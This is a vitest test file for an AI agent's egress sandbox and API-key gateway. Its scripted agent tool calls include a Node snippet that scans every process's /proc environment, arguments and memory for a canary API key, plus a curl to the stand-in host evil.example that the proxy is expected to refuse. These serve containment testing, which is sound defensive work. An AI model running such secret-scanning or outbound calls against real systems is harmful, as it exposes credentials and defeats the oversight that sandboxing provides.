/** The built-in agent as a whole, in a sandbox that has nothing but the gateway: it works, and nowhere in there is the key. */
import { existsSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";
import { builtinProgram } from "../../../src/adapters/agent/agents.ts";
import { openEgress } from "../../../src/adapters/egress/egress.ts";
import { parseAgentConfig } from "../../../src/formats/config.ts";
import { type BuiltinResult, call, done, runBuiltin } from "../../support/builtin-agent.ts";
import { contain, run } from "../../support/egress.ts";

/** In halves, so that whoever looks for it does not find what it looks with. */
const halves = ["sk-canary-", "0123456789abcdef"] as const;
const key = halves.join("");

/** Reads what every process shows of itself: its variables, its arguments, its memory. */
const search = `
const { closeSync, openSync, readdirSync, readFileSync, readSync } = require("node:fs");
const key = Buffer.from(process.argv[1] + process.argv[2]);
const found = [];
let looked = 0;
const room = Buffer.allocUnsafe(2 ** 26);
for (const pid of readdirSync("/proc").filter((name) => /^\\d+$/.test(name) && name !== String(process.pid))) {
  for (const name of ["environ", "cmdline"])
    try { if (readFileSync("/proc/" + pid + "/" + name).includes(key)) found.push(name); } catch {}
  try {
    const memory = openSync("/proc/" + pid + "/mem");
    for (const line of readFileSync("/proc/" + pid + "/maps", "utf8").split("\\n")) {
      const [, from, to] = /^(\\w+)-(\\w+) rw/.exec(line) ?? [];
      if (from === undefined) continue;
      const size = parseInt(to, 16) - parseInt(from, 16);
      if (size > room.length) continue;
      let read = 0;
      try { read = readSync(memory, room, 0, size, parseInt(from, 16)); } catch {}
      looked += read;
      if (room.subarray(0, read).includes(key)) { found.push("memory"); break; }
    }
    closeSync(memory);
  } catch {}
}
console.log("looked at much: " + (looked > 2 ** 20) + "; found: " + [...new Set(found)].join(" "));
`;

const script = [
  call("bash", { command: `node -e '${search}' ${halves.join(" ")}` }),
  call("bash", { command: "curl -sS http://evil.example/; env | grep -i proxy | sort | head -3" }),
  call("write", { path: "made.txt", content: "made" }),
  done(),
];

interface Contained extends BuiltinResult {
  readonly refused: readonly string[];
  readonly authorization: readonly (string | undefined)[];
}

async function runContained(way: "gateway" | "key inside"): Promise<Contained> {
  const open: AsyncDisposable[] = [];
  const warned: string[] = [];
  const result = await runBuiltin({
    script,
    env: way === "gateway" ? { ANTHROPIC_API_KEY: "" } : { ANTHROPIC_API_KEY: key },
    async contain({ folder, logs, url }) {
      const agent = parseAgentConfig({ kind: "builtin", model: "claude-sonnet-5-5", base_url: url });
      const environment = { ANTHROPIC_API_KEY: key };
      const warn = (message: string): void => void warned.push(message);
      const egress = await openEgress({ hosts: [], agents: [agent], environment, warn });
      open.push(egress);
      const door = egress.profile(agent, "0001-one");
      const gateway = egress.gatewayFor(agent);
      const { command, names } = builtinProgram(agent, { folder: logs, recording: null, gateway });
      expect(names).toEqual([]);
      const place = { writable: folder, cwd: join(folder, "workspace") };
      return contain(door?.socket ?? null, door?.wrap(command) ?? [], place);
    },
  });
  for (const each of open) await each[Symbol.asyncDispose]();
  return {
    ...result,
    refused: warned,
    authorization: result.requests.map(({ headers }) => headers.authorization),
  };
}

it("works, and the key is nowhere inside but at the model's server", async () => {
  const result = await runContained("gateway");
  expect([result.exit, result.stderr]).toEqual([0, ""]);
  expect(result.authorization).toEqual(script.map(() => `Bearer ${key}`));
  expect(result.results[0]).toMatch(/looked at much: true; found: $/);
  expect(result.results[1]).toMatch(
    /may not reach evil\.example:80[\s\S]*HTTPS_PROXY=http:\/\/127\.0\.0\.1:\d+/,
  );
  expect(result.refused).toEqual(["refused egress to evil.example:80 (0001-one)"]);
  expect(existsSync(join(result.workspace, "made.txt"))).toBe(true);
  const folder = join(result.workspace, "..");
  expect(await run(["grep", "-rlF", key, folder])).toEqual({ code: 1, stdout: "", stderr: "" });
});

it("would be found out by that search where it is inside", async () => {
  const result = await runContained("key inside");
  expect(result.results[0]).toMatch(/looked at much: true; found: .*\benviron memory$/);
});
